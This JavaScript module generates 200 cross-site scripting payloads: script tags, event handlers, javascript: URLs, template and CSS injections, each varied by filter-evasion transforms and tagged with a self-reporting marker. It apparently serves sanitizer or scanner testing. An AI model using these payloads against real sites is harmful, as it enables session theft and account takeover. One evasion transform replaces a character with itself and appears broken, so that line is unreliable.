// payloads.mjs - 200 strings that run a script wherever text is taken for markup, an attribute, an
// address, a template or a style. Each names itself: whatever runs says which one it was.

const call = (n) => `__xss(${n})`;

const shapes = [
    (n) => `<script>${call(n)}</script>`,
    (n) => `</script><script>${call(n)}</script>`,
    (n) => `<img src=x onerror=${call(n)}>`,
    (n) => `"><img src=x onerror="${call(n)}">`,
    (n) => `'><img src=x onerror='${call(n)}'>`,
    (n) => `<svg onload=${call(n)}>`,
    (n) => `<svg><script>${call(n)}</script></svg>`,
    (n) => `<svg><animate onbegin=${call(n)} attributeName=x dur=1s>`,
    (n) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${call(n)}>`,
    (n) => `<iframe srcdoc="<script>parent.${call(n)}</script>"></iframe>`,
    (n) => `<iframe src="javascript:parent.${call(n)}"></iframe>`,
    (n) => `<object data="javascript:${call(n)}"></object>`,
    (n) => `<embed src="javascript:${call(n)}">`,
    (n) => `<body onload=${call(n)}>`,
    (n) => `<input autofocus onfocus=${call(n)}>`,
    (n) => `<details open ontoggle=${call(n)}>x</details>`,
    (n) => `<video><source onerror=${call(n)}></video>`,
    (n) => `<audio src=x onerror=${call(n)}>`,
    (n) => `<marquee onstart=${call(n)}>x</marquee>`,
    (n) => `<a href="javascript:${call(n)}" autofocus>click</a>`,
    (n) => `javascript:${call(n)}`,
    (n) => `java\tscript:${call(n)}`,
    (n) => `https://x"onmouseover="${call(n)}`,
    (n) => `https://x.example/'><script>${call(n)}</script>`,
    (n) => `data:text/html,<script>parent.${call(n)}</script>`,
    (n) => `{{constructor.constructor('${call(n)}')()}}`,
    (n) => `\${${call(n)}}`,
    (n) => `{@html '<img src=x onerror=${call(n)}>'}`,
    (n) => `<style>@import 'javascript:${call(n)}';</style>`,
    (n) => `<link rel=stylesheet href="javascript:${call(n)}">`,
    (n) => `<meta http-equiv=refresh content="0;url=javascript:${call(n)}">`,
    (n) => `<base href="javascript:${call(n)}//">`,
    (n) => `<template><img src=x onerror=${call(n)}></template>`,
    (n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>">`,
    (n) => `<button popovertarget=x onbeforetoggle=${call(n)} popover>`,
    (n) => `<x onclick=${call(n)} tabindex=1 id=x>`,
    (n) => `<img src="x\` onerror=${call(n)}//">`,
    (n) => `&lt;img src=x onerror=${call(n)}&gt;`,
    (n) => `<!--><img src=x onerror=${call(n)}>-->`,
    (n) => `<![CDATA[<script>${call(n)}</script>]]>`,
];
// How a shape may be dressed to slip past a filter.
const dresses = [
    (s) => s,
    (s) => s.replace(/<(\w+)/g, (_, tag) => `<${tag.toUpperCase()}`),
    (s) => s.replace(/ on(\w+)=/g, ' on$1 = '),
    (s) => `x ${s} y`,
    (s) => s.replace(/</g, '<').replace(/ /g, '/'),
];

/** When short is asked for: at most 80 characters each and no control ones, as a name allows. */
export function payloads({ short = false } = {}) {
    const all = [];
    for (const dress of dresses) {
        for (const shape of shapes) all.push(dress(shape(all.length)));
    }
    if (!short) return all;
    return all.map((s, n) => ([...s].length <= 80 ? s : `<img src=x onerror=${call(n)}>${n}`)
        .replace('\t', '&Tab;'));
}
